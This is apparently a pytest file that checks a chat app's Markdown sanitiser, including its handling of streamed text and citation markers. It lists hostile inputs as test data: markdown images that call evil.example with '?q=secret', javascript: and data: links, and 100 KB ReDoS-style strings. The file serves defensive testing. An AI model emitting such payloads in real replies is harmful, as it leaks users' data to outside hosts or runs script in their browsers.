"""Rendered text can never fetch anything, open a non-http link, or take minutes to escape.

`safe_markdown` is what every corpus text and model reply goes through before the app
shows it. Its output is checked here the way a browser would read it: parsed by a real
Markdown parser (markdown-it, with the tables and strikethrough Streamlit also renders),
looking for image tokens (fetched on sight) and links whose target is not http(s).
Adversarial inputs of 100 KB must escape quickly; the pytest timeout is the judge (the old
image regex took 24 s on 8 KB, growing cubically).
"""

import pytest
from markdown_it import MarkdownIt

from rag.citations import MarkerFilter, split_follow_ups, tidy
from rag.rendering import choices_markdown, highlight_markers, safe_label, safe_markdown, safe_stream

pytestmark = pytest.mark.timeout(60)

_browser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_browser.validateLink = lambda url: True  # judge like a renderer that does not vet link schemes itself

HOSTILE = [
    "![x](https://evil.example/p.png?q=secret)",
    "![r][x]\n\n[x]: https://evil.example/ref.png",
    "![alt [with] brackets](https://evil.example/b.png)",
    "![a ![nested](https://evil.example/n.png)](https://evil.example/o.png)",
    "[![badge](https://evil.example/badge.svg)](https://example.com)",
    "\\\\![escaped backslash, real image](https://evil.example/e.png)",
    "- item\n\n  ![in a list](https://evil.example/l.png)",
    "> ![in a quote](https://evil.example/q.png)",
    "| a | b |\n|---|---|\n| ![cell](https://evil.example/c.png) | x |",
    "### Heading ![in a heading](https://evil.example/h.png)",
    "`code` ![after code](https://evil.example/a.png) `more`",
    "\\`![after an escaped backtick](https://evil.example/t.png)`",
    '<img src="https://evil.example/html.png">',
    "[click me](data:text/html;base64,PHNjcmlwdD4=)",
    "[click me](javascript:alert(1))",
    "[click me](dat&#97;:text/html,x)",
    "[click me](<data:text/html,x>)",
    "[ref link][d]\n\n[d]: data:text/html,x",
    "[ref link][j]\n\n[j]: javascript:alert(1)",
]


def fetched_or_unsafe(markdown: str) -> list[str]:
    """Image sources, and link targets a browser would open that are not http(s)."""
    found = []

    def walk(tokens):
        for token in tokens:
            if token.type == "image":
                found.append(f"image {token.attrGet('src')}")
            if token.type == "link_open":
                href = (token.attrGet("href") or "").strip().lower()
                if ":" in href.split("/", 1)[0] and not href.startswith(("http://", "https://")):
                    found.append(f"link {href}")
            if token.children:
                walk(token.children)

    walk(_browser.parse(markdown))
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_no_rendered_text_fetches_an_image_or_opens_a_non_http_link(text):
    assert fetched_or_unsafe(text) or "<img" in text  # each case is live before escaping
    assert fetched_or_unsafe(safe_markdown(text)) == []
    assert fetched_or_unsafe("".join(safe_stream(text[i : i + 3] for i in range(0, len(text), 3)))) == []


def test_quiz_choices_and_labels_are_sanitised():
    choice = "Retrain ![x](https://evil.example/choice.png) [go](data:text/html,x)"
    assert fetched_or_unsafe(safe_label(choice)) == []
    assert fetched_or_unsafe(choices_markdown([choice, "Roll back"], 1, 0)) == []


def test_http_links_and_code_stay_as_written():
    text = "See [the docs](https://example.com/a) and `![not an image](x)` here."
    shown = safe_markdown(text)
    assert "[the docs](https://example.com/a)" in shown
    assert "`" in shown and fetched_or_unsafe(shown) == []


ADVERSARIAL_100KB = {
    "image openers": "![a](" * 20_000,
    "bang brackets": "![" * 50_000,
    "brackets": "[" * 100_000,
    "backticks": "`" * 100_000,
    "link openers": "](" * 50_000,
    "reference definitions": "[x]: data:" * 10_000,
    "tags and dollars": "<a$" * 33_000,
    "backslashes": "\\" * 100_000 + "![x](y)",
    "mixed": "![a](`<$\\[" * 10_000,
}


@pytest.mark.parametrize("name", ADVERSARIAL_100KB)
def test_100kb_adversarial_text_escapes_quickly(name):
    text = ADVERSARIAL_100KB[name]
    shown = safe_markdown(text)
    assert len(shown) >= len(text) // 2
    assert "".join(safe_stream([text]))


def test_100kb_of_blanks_in_a_reply_is_tidied_quickly():
    """A newline and 60,000 tabs made `ask` take 50 s (a quadratic blank-before-punctuation pattern)."""
    for reply in ("\n" + "\t" * 100_000, "\n" + " " * 100_000 + "x", ("a \t" * 33_000) + "."):
        assert len(tidy(reply)) <= len(reply)
        assert split_follow_ups(reply)[0] is not None


def test_100kb_of_marker_lookalikes_stream_quickly():
    markers = MarkerFilter(range(1, 4))
    text = "[1" * 50_000
    out = "".join(markers.feed(text[i : i + 7]) for i in range(0, len(text), 7)) + markers.flush()
    assert out


def test_only_retrieved_markers_survive_in_one_form():
    markers = MarkerFilter(range(1, 4))
    text = "A [0] b [999999] c [1-3] d 【2】 e [1](http://evil.example/x) f [01] g [Source 2] h [4]."
    shown = "".join(markers.feed(text[i : i + 2]) for i in range(0, len(text), 2)) + markers.flush()
    assert shown == "A  b  c [1][2][3] d [2] e [1] f [1] g [2] h ."
    assert markers.cited == [1, 2, 3]
    assert "http" not in shown
    assert highlight_markers("[01] and [1]", [1]) == "[01] and **[1]**"
